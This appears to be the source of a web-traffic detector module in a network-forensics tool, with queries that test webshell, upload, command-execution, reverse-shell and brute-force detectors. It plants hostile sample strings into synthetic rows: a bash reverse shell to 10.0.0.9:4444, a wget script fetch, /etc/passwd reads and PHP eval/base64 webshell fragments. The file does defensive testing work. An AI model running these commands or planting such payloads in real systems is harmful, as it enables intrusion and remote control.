"""Web and text detectors over the driver tables."""

from __future__ import annotations

from pyspark.sql import Window
from pyspark.sql import functions as F

from fieldtrace import catalogue as cat
from fieldtrace.functions.content import decode_layers
from fieldtrace.operators import http, web
from fieldtrace.plans import adapters as ad
from fieldtrace.plans import sqltext as st
from fieldtrace.plans.ot_queries import fact
from fieldtrace.plans.registry import query, table

WB = ad.WB_SQL


def quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def rx(column: str, pattern: str) -> str:
    return f"regexp_matches({column}, {quoted(pattern)})"


DEC = "url_decode(replace({x}, '+', ' '))"
TEXTS_SQL = f"""{WB}, tx AS (SELECT *, concat('Host: ', host, chr(13), chr(10), 'User-Agent: ', user_agent, chr(13), chr(10), 'Content-Type: ', content_type) AS headers,
 {DEC.format(x=DEC.format(x='uri'))} AS uri2,
 array_to_string(regexp_extract_all(concat(uri, '&', body), '(?i)(?:^|[?&=;,\\s"''])((?:[a-z][a-z0-9+.-]*:)?//[^&\\s"'']+)', 1), ' ') AS url_values FROM wb)"""
PLACES = {"uri": ["uri", "uri2"], "body": ["body"], "headers": ["headers"], "url_values": ["url_values"], "user_agent": ["user_agent"]}


def _rule_sql(p):
    found = "coalesce(" + ", ".join(f"CASE WHEN {rx(c, p.regex)} THEN '{t}' END" for t in p.targets for c in PLACES[t]) + ", NULL)"
    allowed = f"method IN ({', '.join(quoted(m) for m in p.methods)})" if p.methods else "TRUE"
    return f"SELECT seq, src_ip, 'HTTP_{p.category}' AS anomaly_type, '{p.severity}' AS severity, {found} AS found_in FROM tx WHERE {allowed} AND {found} IS NOT NULL"


@query("http_pattern_rules", f"WITH {TEXTS_SQL} " + " UNION ALL ".join(_rule_sql(p) for p in cat.HTTP_CATALOGUE))
def http_pattern_rules(spark, folder):
    return web.http_pattern_rules(ad.web_requests(spark, folder)).select("seq", "src_ip", "anomaly_type", "severity",
                                                                        F.col("evidence")["found_in"].alias("found_in"))


@query("ssrf_values", f"WITH {TEXTS_SQL} SELECT seq, url_values FROM tx")
def ssrf_values(spark, folder):
    return web.search_texts(ad.web_requests(spark, folder)).select("seq", F.col("_url_values").alias("url_values"))


@query("scanner_user_agent", f"WITH {WB} SELECT seq, src_ip, CASE WHEN contains(user_agent, 'sqlmap') THEN 'SQLMap' ELSE 'Gobuster' END AS tool FROM wb WHERE contains(user_agent, 'sqlmap') OR contains(user_agent, 'gobuster')")
def scanner_user_agent(spark, folder):
    return web.scanner_user_agent(ad.web_requests(spark, folder)).select("seq", "src_ip", F.col("evidence")["tool"].alias("tool"))


@query("http_rapid_requests", f"""WITH {ad.EV_SQL}, rq AS (SELECT seq, ts_us, src_ip, 'w' AS dst_ip FROM ev),
c AS (SELECT b.*, (SELECT count(*) FROM rq a WHERE a.src_ip = b.src_ip AND (a.ts_us, a.seq) <= (b.ts_us, b.seq) AND a.ts_us > b.ts_us - 60000000) AS n FROM rq b),
hot AS (SELECT * FROM c WHERE n > 8), {st.kept('hot', 'src_ip, dst_ip', 60_000_000)} SELECT seq, src_ip, n AS request_count FROM kept""")
def http_rapid_requests(spark, folder):
    rows = ad.base_events(spark, folder).select("seq", "ts_us", "src_ip", F.lit("w").alias("dst_ip"), F.lit(80).alias("dst_port"))
    return web.http_rapid_requests(rows, limit=8).select("seq", "src_ip", fact("request_count"))


@query("http_dangerous_method", f"WITH {WB} SELECT seq, method FROM wb WHERE method IN ('PUT', 'DELETE', 'CONNECT')")
def http_dangerous_method(spark, folder):
    return web.http_dangerous_method(ad.web_requests(spark, folder)).select("seq", F.col("evidence")["method"].alias("method"))


@query("http_sensitive_file", f"WITH {WB} SELECT seq, CASE WHEN contains(lower(uri), '.bak') THEN '.bak' WHEN contains(lower(uri), '.old') THEN '.old' ELSE '.sql' END AS extension FROM wb WHERE regexp_matches(lower(uri), '\\.(bak|old|config|conf|sql|db|env|git)')")
def http_sensitive_file(spark, folder):
    return web.http_sensitive_file(ad.web_requests(spark, folder)).select("seq", F.col("evidence")["extension"].alias("extension"))


@query("directory_bruteforce", f"""WITH {ad.RS_SQL}, {st.anchors('rs', 'client_ip, server_ip, server_port', 120_000_000)}, {st.windows('rs', 'client_ip, server_ip, server_port')},
c AS (SELECT *, count(*) OVER w AS total, count(*) FILTER (WHERE status IN (400, 401, 403, 404, 405, 500)) OVER w AS errors, count(*) FILTER (WHERE status = 404) OVER w AS missing
 FROM win WINDOW w AS (PARTITION BY client_ip, server_ip, server_port, mark_us ORDER BY ts_us, seq)),
hit AS (SELECT * FROM c WHERE total >= 6 AND ((missing >= 8 AND errors / total > 0.7) OR (missing >= 4 AND errors / total > 0.6))), {st.kept('hit', 'client_ip, server_ip, server_port', 120_000_000)}
SELECT seq, client_ip AS src_ip, total AS total_responses, errors AS error_count, CASE WHEN missing >= 8 AND errors / total > 0.7 THEN 'HIGH' ELSE 'MEDIUM' END AS severity FROM kept""")
def directory_bruteforce(spark, folder):
    return web.directory_bruteforce(ad.web_responses(spark, folder), min_total=6, strong=(8, 0.7), weak=(4, 0.6)).select(
        "seq", "src_ip", fact("total_responses"), fact("error_count"), "severity")


# shell lines planted into conversation turns (fixed values of the adapter)
SHELL = """CASE (conv_id + turn) % 9 WHEN 0 THEN 'uid=0(root) gid=0(root) ' WHEN 1 THEN 'root:x:0:0:root:/root:' WHEN 2 THEN 'uname -a; ifconfig ' WHEN 3 THEN 'wget http://x/a.sh ' ELSE '' END"""
TT_SQL = f"""tt AS (SELECT conv_id * 8 + turn AS seq, conv_id * 30000000 + turn * 1000000 AS ts_us, concat('10.5.0.', CAST(conv_id % 7 AS VARCHAR)) AS src_ip, '10.5.1.1' AS dst_ip,
 concat({SHELL}, text) AS payload FROM conversations)"""


def shell_text(spark, folder):
    return table(spark, folder, "conversations").select(
        (F.col("conv_id") * 8 + F.col("turn")).alias("seq"), (F.col("conv_id") * 30000000 + F.col("turn") * 1000000).alias("ts_us"),
        F.concat(F.lit("10.5.0."), (F.col("conv_id") % 7).cast("string")).alias("src_ip"), F.lit("10.5.1.1").alias("dst_ip"),
        F.encode(F.concat(F.expr(SHELL), F.col("text")), "UTF-8").alias("payload"))


@query("post_exploitation", f"WITH {TT_SQL}, h AS (" + " UNION ALL ".join(
    f"SELECT seq, ts_us, src_ip, dst_ip, '{p.category}' AS category FROM tt WHERE length(payload) >= 10 AND {rx('payload', p.regex)}" for p in cat.POST_EXPLOITATION)
       + f"), {st.kept('h', 'category, src_ip, dst_ip', 300_000_000)} SELECT seq, src_ip, category FROM kept")
def post_exploitation(spark, folder):
    return web.post_exploitation(shell_text(spark, folder)).select("seq", "src_ip", F.col("evidence")["category"].alias("category"))


# code planted into page bodies (fixed values of the adapter)
CODE = """CASE page_id % 8 WHEN 0 THEN '<?php eval(base64_decode($x)); system($y); exec($z); gzinflate(1); hex2bin(2)' WHEN 1 THEN 'cat /etc/passwd && whoami'
 WHEN 2 THEN 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1 10.0.0.9:4444' WHEN 3 THEN 'filename="a.jpg.php"' WHEN 4 THEN 'c99shell cmd.exe /c dir' ELSE '' END"""
CB_SQL = f"{WB}, cb AS (SELECT * EXCLUDE (body, page_id), concat({CODE}, body) AS body FROM (SELECT *, seq AS page_id FROM wb))"


def coded(spark, folder):
    rows = ad.web_requests(spark, folder).withColumn("page_id", F.col("seq"))
    return rows.withColumn("body", F.concat(F.expr(CODE), F.col("body"))).drop("page_id")


def _sum_sql(words, lower):
    t = "lower(body)" if lower else "body"
    return " + ".join(f"CAST(contains({t}, {quoted(w)}) AS INT)" for w in words)


PHP_N = {k: "(" + _sum_sql(v, False) + ")" for k, v in cat.PHP_FUNCTIONS.items()}
CMD_N = {k: "(" + _sum_sql(v, True) + ")" for k, v in cat.SHELL_COMMANDS.items()}
WS_N = "(" + _sum_sql([w for ws in cat.KNOWN_WEBSHELLS.values() for w in ws], True) + ")"


@query("http_payload_score", f"""WITH {CB_SQL}, n AS (SELECT *, {WS_N} AS ws, {' + '.join(PHP_N.values())} AS php, {' + '.join(CMD_N.values())} AS cmd,
 {' + '.join(f'{PHP_N[k]} * {v}' for k, v in cat.PHP_POINTS.items())} + {' + '.join(f'{CMD_N[k]} * {v}' for k, v in cat.COMMAND_POINTS.items())} AS pts,
 contains(content_type, 'multipart') AS up FROM cb),
t AS (SELECT *, ws + php + cmd + CASE WHEN up THEN {_sum_sql(cat.UPLOAD_EXTENSIONS, True)} + CAST(regexp_matches(body, '(?i)filename="[^\\r\\n]*\\.(jpg|png|gif)\\.(php|jsp|aspx)"') AS INT) ELSE 0 END
 + CASE WHEN method = 'POST' THEN {' + '.join(f"CAST(contains(lower(uri), '{x}') AS INT)" for x in cat.POST_PATHS)} ELSE 0 END AS threats FROM n)
SELECT seq, CAST(threats AS BIGINT) AS threats, CAST(least(100, CASE WHEN ws > 0 THEN 80 ELSE 0 END + pts + CASE WHEN up THEN 20 ELSE 0 END + threats * 5) AS BIGINT) AS score FROM t""")
def http_payload_score(spark, folder):
    return web.http_payload_score(coded(spark, folder)).select("seq", "threats", "score")


@query("http_payload_type", f"""WITH {CB_SQL} SELECT seq, CASE WHEN {' OR '.join(rx('body', '(?i)' + p) for p, _ in cat.PAYLOAD_PATTERNS)} THEN 'WEBSHELL' WHEN regexp_matches(body, '(?i)<\\?php') THEN 'PHP_SCRIPT'
 WHEN regexp_matches(body, '<%.*%>') THEN 'JSP_SCRIPT' WHEN regexp_matches(body, '(?i)<script') THEN 'JAVASCRIPT' ELSE 'UNKNOWN' END AS payload_type, sha256(body) AS sha256 FROM cb""")
def http_payload_type(spark, folder):
    return web.http_payload_type(coded(spark, folder)).select("seq", "payload_type", "sha256")


def _hits(patterns):
    return " + ".join(f"CAST({rx('body', '(?i)' + p)} AS INT)" for p in patterns)


SHELL_KIND = "CASE WHEN " + rx("uri", cat.WEBSHELL_FILES) + " THEN 'WEBSHELL_ACCESS' " + " ".join(
    f"WHEN {_hits(patterns)} >= {least} THEN 'WEBSHELL_EXECUTION_{language}'" for language, (patterns, least) in cat.EXECUTION.items()) + " END"


@query("webshell_access", f"WITH {CB_SQL} SELECT * FROM (SELECT seq, {SHELL_KIND} AS kind FROM cb) WHERE kind IS NOT NULL")
def webshell_access(spark, folder):
    return web.webshell_access(coded(spark, folder)).select("seq", F.col("anomaly_type").alias("kind"))


UP_SQL = f"""SELECT seq, ts_us, src_ip, f AS filename FROM (SELECT *, regexp_extract(body, '(?i)filename\\s*=\\s*["'']?([^"'';\\r\\n]+)', 1) AS f FROM cb WHERE method = 'POST' AND contains(content_type, 'multipart/form-data'))
 WHERE f <> '' AND ({rx('trim(f)', cat.DANGEROUS_NAME)} OR {rx('f', cat.DOUBLE_NAME)})"""


@query("dangerous_upload", f"WITH {CB_SQL} {UP_SQL.replace('SELECT seq, ts_us, src_ip, f', 'SELECT seq, f')}".replace("method = 'POST' AND contains(content_type, 'multipart/form-data')", "TRUE"))
def dangerous_upload(spark, folder):
    rows = coded(spark, folder).withColumn("method", F.lit("POST")).withColumn("content_type", F.lit("multipart/form-data; boundary=xx"))
    return web.dangerous_upload(rows).select("seq", F.col("evidence")["filename"].alias("filename"))


# the one expression that looks around is stated without doing so; whether it matches is the same
COMMANDS_SQL = cat.any_of([p for p in cat.COMMAND_PATTERNS if "hostname" not in p] + [r"(?:^|[^\w=])hostname\s*(?:$|[;&|`)])"])
SERIOUS_SQL = " OR ".join(f"contains(lower(array_to_string(m, chr(10))), {quoted(w)})" for w in cat.SERIOUS_COMMANDS)


@query("http_command_execution", f"""WITH {CB_SQL}, t AS (SELECT seq, concat(uri, ' ', body) AS raw, url_decode(replace(concat(uri, ' ', body), '+', ' ')) AS plain FROM cb),
c AS (SELECT seq, regexp_extract_all(CASE WHEN plain = raw THEN raw ELSE concat(raw, ' ', plain) END, {quoted(COMMANDS_SQL)}, 1) AS m FROM t)
SELECT seq, len(m) > 0 AS hit, CASE WHEN {SERIOUS_SQL} THEN 'CRITICAL' ELSE 'MEDIUM' END AS severity FROM c WHERE len(m) > 0""")
def http_command_execution(spark, folder):
    return web.http_command_execution(coded(spark, folder)).select("seq", F.lit(True).alias("hit"), "severity")


@query("http_reverse_shell", f"WITH {CB_SQL} SELECT seq, '10.0.0.9:4444' AS c2_target FROM cb WHERE {rx('body', cat.REVERSE_SHELL)}")
def http_reverse_shell(spark, folder):
    return web.http_reverse_shell(coded(spark, folder)).select("seq", F.col("evidence")["c2_target"].alias("c2_target"))


@query("http_obfuscation", f"WITH {CB_SQL} SELECT seq FROM cb WHERE len(regexp_extract_all(body, {quoted(cat.OBFUSCATION)})) + CAST(regexp_matches(body, '(?i)eval\\s*\\(\\s*base64_decode') AS INT) >= 2")
def http_obfuscation(spark, folder):
    return web.http_obfuscation(coded(spark, folder)).select("seq")


@query("http_request_burst", f"""WITH {ad.EV_SQL}, r AS (SELECT seq, ts_us, src_ip, CAST(k % 4 AS VARCHAR) AS uri FROM ev),
c AS (SELECT *, count(*) OVER f AS n, ts_us - min(ts_us) OVER f AS span, list(uri) OVER f AS l FROM r WINDOW f AS (PARTITION BY src_ip ORDER BY ts_us, seq ROWS BETWEEN 4 PRECEDING AND CURRENT ROW))
SELECT seq, src_ip, n AS requests, len(list_distinct(l)) AS unique_uris FROM c WHERE n >= 3 AND span > 0 AND n / (span / 1e6) > 0.125 AND len(list_distinct(l)) < 3""")
def http_request_burst(spark, folder):
    rows = ad.base_events(spark, folder).select("seq", "ts_us", "src_ip", "dst_ip", (F.col("k") % 4).cast("string").alias("uri"))
    return web.http_request_burst(rows, last=5, min_requests=3, rate=0.125).select("seq", "src_ip", fact("requests"), fact("unique_uris"))


# threat rows derived from alerts: three of the kinds mean upload, access and command
TH_SQL = f"""{ad.AL_SQL}, th AS (SELECT ts_us, seq, src_ip, CASE k % 12 WHEN 2 THEN 'FILE_UPLOAD_SUSPICIOUS' WHEN 8 THEN 'WEBSHELL_ACCESS' WHEN 0 THEN 'COMMAND_EXECUTION_HTTP' ELSE 'OTHER' END AS kind FROM al)"""


def threats(spark, folder):
    k = F.col("k") % 12
    kind = F.when(k == 2, "FILE_UPLOAD_SUSPICIOUS").when(k == 8, "WEBSHELL_ACCESS").when(k == 0, "COMMAND_EXECUTION_HTTP").otherwise("OTHER")
    return ad.alerts(spark, folder).withColumn("anomaly_type", kind).withColumn("_rank", F.lit(0)).withColumn(
        "evidence", F.create_map(F.lit("count"), F.lit("2")))


@query("webshell_sequence", f"""WITH {TH_SQL}, rq AS (SELECT e.seq, e.ts_us, e.src_ip, t.kind FROM ev e LEFT JOIN th t ON t.seq = e.seq),
p AS (SELECT *, count(kind) OVER (PARTITION BY src_ip ORDER BY ts_us, seq) AS position FROM rq),
q AS (SELECT a.seq, a.src_ip, a.position, max(CAST(contains(b.kind, 'UPLOAD') AS INT)) AS u, max(CAST(contains(b.kind, 'WEBSHELL_ACCESS') OR contains(b.kind, 'EXECUTION') AS INT)) AS x, max(CAST(contains(b.kind, 'COMMAND') AS INT)) AS c
 FROM p a JOIN p b ON a.src_ip = b.src_ip AND b.kind IS NOT NULL AND b.position BETWEEN a.position - 9 AND a.position GROUP BY ALL)
SELECT seq, src_ip, position AS attack_stages FROM q WHERE u = 1 AND x = 1 AND c = 1 AND position >= 3""")
def webshell_sequence(spark, folder):
    return web.webshell_sequence(ad.base_events(spark, folder), threats(spark, folder)).select("seq", "src_ip", fact("attack_stages"))


@query("http_attacker_summary", f"""WITH {TH_SQL}, r AS (SELECT src_ip, count(*) AS requests FROM ev GROUP BY 1), t AS (SELECT src_ip, count(*) FILTER (WHERE contains(kind, 'UPLOAD')) AS uploads, 2 * count(*) FILTER (WHERE kind = 'COMMAND_EXECUTION_HTTP') AS commands, count(*) AS threats FROM th GROUP BY 1)
SELECT src_ip, requests, coalesce(uploads, 0) AS uploads, coalesce(commands, 0) AS commands, coalesce(threats, 0) AS threats,
 CASE WHEN (uploads > 0 AND commands > 0) OR commands > 5 THEN 'CRITICAL' WHEN uploads > 0 OR commands > 0 THEN 'HIGH' WHEN threats > 10 THEN 'MEDIUM' ELSE 'LOW' END AS threat_level FROM r LEFT JOIN t USING (src_ip)""")
def http_attacker_summary(spark, folder):
    return web.http_attacker_summary(ad.base_events(spark, folder), threats(spark, folder))


# --------------------------------------------------------------------------- layers and messages

def one_line(data):
    """base64 without line breaks."""
    return F.replace(F.base64(data), F.lit("\r\n"), F.lit(""))


@query("decode_layers", """WITH b AS (SELECT doc_id, text, base64(encode(text)) AS b64 FROM documents), h AS (SELECT *, hex(encode(b64)) AS hx FROM b)
SELECT doc_id, sha256(CASE WHEN length(b64) >= 20 THEN text WHEN length(hx) >= 20 THEN b64 ELSE hx END) AS digest,
 CASE WHEN length(b64) >= 20 THEN 'hex,base64' WHEN length(hx) >= 20 THEN 'hex' ELSE '' END AS layers FROM h""")
def decode_layers_query(spark, folder):
    """Every document in base64 and hex; too short ones give no sign of it."""
    wrapped = F.encode(F.hex(F.encode(one_line(F.encode("text", "UTF-8")), "UTF-8")), "UTF-8")
    rows = table(spark, folder, "documents").select("doc_id", decode_layers(wrapped).alias("d"))
    return rows.select("doc_id", F.sha2("d.data", 256).alias("digest"), F.array_join(F.transform("d.steps", lambda s: s["encoding"]), ",").alias("layers"))


def turns(spark, folder):
    """Each conversation as one POST whose turns are TCP segments, some of them sent twice or overlapping."""
    raw = F.encode("text", "UTF-8")
    order = Window.partitionBy("conv_id").orderBy("turn")
    rows = table(spark, folder, "conversations").withColumn("_len", F.octet_length(raw).cast("long"))
    rows = rows.withColumn("_before", F.coalesce(F.sum("_len").over(order.rowsBetween(Window.unboundedPreceding, -1)), F.lit(0)))
    rows = rows.withColumn("_all", F.sum("_len").over(Window.partitionBy("conv_id")))
    head = F.encode(F.concat(F.lit("POST /c/"), F.col("conv_id").cast("string"), F.lit(" HTTP/1.1\r\nHost: h\r\nContent-Length: "),
                             F.col("_all").cast("string"), F.lit("\r\n\r\n")), "UTF-8")
    rows = rows.withColumn("_head", head).withColumn("payload", F.when(F.col("turn") == 0, F.concat(F.col("_head"), raw)).otherwise(raw))
    rows = rows.withColumn("tcp_seq", F.when(F.col("turn") == 0, F.lit(1000)).otherwise(1000 + F.octet_length("_head") + F.col("_before")))
    base = rows.select(F.concat(F.lit("c"), F.col("conv_id").cast("string")).alias("src_ip"), F.lit("web").alias("dst_ip"), F.lit(50000).alias("src_port"),
                       F.lit(80).alias("dst_port"), F.col("tcp_seq").cast("long").alias("tcp_seq"), (F.col("turn") * 1000000).alias("ts_us"),
                       (F.col("conv_id") * 100 + F.col("turn") * 3).alias("seq"), "payload", "turn")
    again = base.where("turn % 3 = 0").withColumn("ts_us", F.col("ts_us") + 10).withColumn("seq", F.col("seq") + 1)
    overlap = (base.where("turn % 2 = 1").withColumn("tcp_seq", F.col("tcp_seq") + 2).withColumn("payload", F.expr("substring(payload, 3, 4)"))
               .withColumn("ts_us", F.col("ts_us") + 20).withColumn("seq", F.col("seq") + 2))
    return base.unionByName(again).unionByName(overlap.where("octet_length(payload) > 0")).drop("turn")


BODY_SQL = "b AS (SELECT conv_id, string_agg(text, '' ORDER BY turn) AS body, sum(octet_length(encode(text))) AS size FROM conversations GROUP BY 1 HAVING min(turn) = 0)"


@query("reassemble_http", f"WITH {BODY_SQL} SELECT concat('c', conv_id) AS src_ip, sha256(concat('POST /c/', conv_id, ' HTTP/1.1', chr(13), chr(10), 'Host: h', chr(13), chr(10), 'Content-Length: ', size, chr(13), chr(10), chr(13), chr(10), body)) AS digest FROM b")
def reassemble_http(spark, folder):
    return http.reassemble_http(turns(spark, folder)).select("src_ip", F.sha2("data", 256).alias("digest"))


def reused(spark, folder):
    """The conversations one after the other over ten client addresses that reuse one port: seen in two captures, sequence
    numbers that wrap after 500 bytes, every other one opened by a SYN and the rest told apart by silence."""
    rows = turns(spark, folder).withColumn("_c", F.expr("CAST(substring(src_ip, 2) AS BIGINT)")).withColumn("tcp_flags", F.lit(24))
    syn = (rows.groupBy("_c", "dst_ip", "src_port", "dst_port").agg(F.min("ts_us").alias("ts_us"), F.min("seq").alias("seq"), F.min("tcp_seq").alias("tcp_seq"))
           .where("_c div 10 % 2 = 0").select("*", F.lit(b"").alias("payload"), F.lit(2).alias("tcp_flags"), F.concat(F.lit("c"), F.col("_c").cast("string")).alias("src_ip")))
    rows = rows.unionByName(syn.withColumns({"ts_us": F.col("ts_us") - 5, "tcp_seq": F.col("tcp_seq") - 1}))
    return (rows.withColumns({"src_ip": F.concat(F.lit("h"), (F.col("_c") % 10).cast("string")), "ts_us": F.expr("ts_us + _c div 10 * 1000000000000"),
                              "tcp_seq": F.pmod(F.col("tcp_seq") + ((1 << 32) - 1500), F.lit(1 << 32))})
            .withColumn("capture", F.explode(F.array(F.lit("a"), F.lit("b")))).drop("_c"))


@query("http_connections", f"""WITH {BODY_SQL} SELECT capture, concat('h', conv_id % 10) AS src_ip, row_number() OVER (PARTITION BY capture, conv_id % 10 ORDER BY conv_id) AS connection_no,
 sha256(concat('POST /c/', conv_id, ' HTTP/1.1', chr(13), chr(10), 'Host: h', chr(13), chr(10), 'Content-Length: ', size, chr(13), chr(10), chr(13), chr(10), body)) AS digest
FROM b, (VALUES ('a'), ('b')) v(capture)""")
def http_connections(spark, folder):
    return http.reassemble_http(reused(spark, folder)).select("capture", "src_ip", "connection_no", F.sha2("data", 256).alias("digest"))


@query("reassembly_stats", """WITH t AS (SELECT conv_id, turn, octet_length(encode(text)) AS n FROM conversations),
s AS (SELECT conv_id, count(*) + count(*) FILTER (WHERE turn % 3 = 0) + count(*) FILTER (WHERE turn % 2 = 1 AND n > 2) AS segments, count(*) FILTER (WHERE turn % 3 = 0) AS retransmissions FROM t GROUP BY 1)
SELECT concat('c', conv_id) AS src_ip, segments, retransmissions FROM s""")
def reassembly_stats(spark, folder):
    return http.reassembly_stats(turns(spark, folder)).select("src_ip", "segments", "retransmissions")


@query("decode_http_message", f"WITH {BODY_SQL} SELECT concat('c', conv_id) AS src_ip, 'POST' AS method, concat('/c/', conv_id) AS uri, size AS content_length, TRUE AS is_complete, sha256(body) AS digest FROM b")
def decode_http_message(spark, folder):
    rows = http.decode_http_message(http.reassemble_http(turns(spark, folder)))
    return rows.select("src_ip", "method", "uri", "content_length", "is_complete", F.sha2("body_raw", 256).alias("digest"))


@query("http_decoded_alert", f"""WITH {CB_SQL} SELECT seq, 'HTTP_DECODED_WEBSHELL' AS anomaly_type FROM cb WHERE {' OR '.join(rx('body', '(?i)' + p) for p, _ in cat.PAYLOAD_PATTERNS)}
UNION ALL SELECT seq, 'HTTP_MULTILAYER_ENCODING' FROM cb""")
def http_decoded_alert(spark, folder):
    rows = coded(spark, folder)
    # three layers around each body: base64, hex, base64
    wrapped = one_line(F.encode(F.hex(F.encode(one_line(F.encode("body", "UTF-8")), "UTF-8")), "UTF-8"))
    head = F.concat(F.lit("POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: "), F.length(wrapped).cast("string"), F.lit("\r\n\r\n"))
    segments = rows.select("src_ip", "dst_ip", "src_port", F.col("dst_port"), F.lit(1).cast("long").alias("tcp_seq"), "ts_us", "seq",
                           F.encode(F.concat(head, wrapped), "UTF-8").alias("payload"))
    segments = segments.withColumn("src_ip", F.concat_ws("-", "src_ip", F.col("seq").cast("string")))
    return web.http_decoded_alert(http.decode_http_message(http.reassemble_http(segments))).select("seq", "anomaly_type")


@query("parse_http_request", f"""WITH {WB} SELECT seq, method, uri, host, user_agent, content_type, sha256(body) AS digest, CASE method WHEN 'GET' THEN 'READ' ELSE 'WRITE' END AS operation_type FROM wb""")
def parse_http_request(spark, folder):
    rows = ad.web_requests(spark, folder)
    raw = F.concat("method", F.lit(" "), "uri", F.lit(" HTTP/1.1\r\n"), "headers_raw", F.lit("\r\n\r\n"), "body")
    rows = rows.select("seq", F.encode(raw, "UTF-8").alias("payload"))
    return http.parse_http_request(rows).select("seq", "method", "uri", "host", "user_agent", "content_type",
                                                F.sha2(F.encode("body", "UTF-8"), 256).alias("digest"), "operation_type")
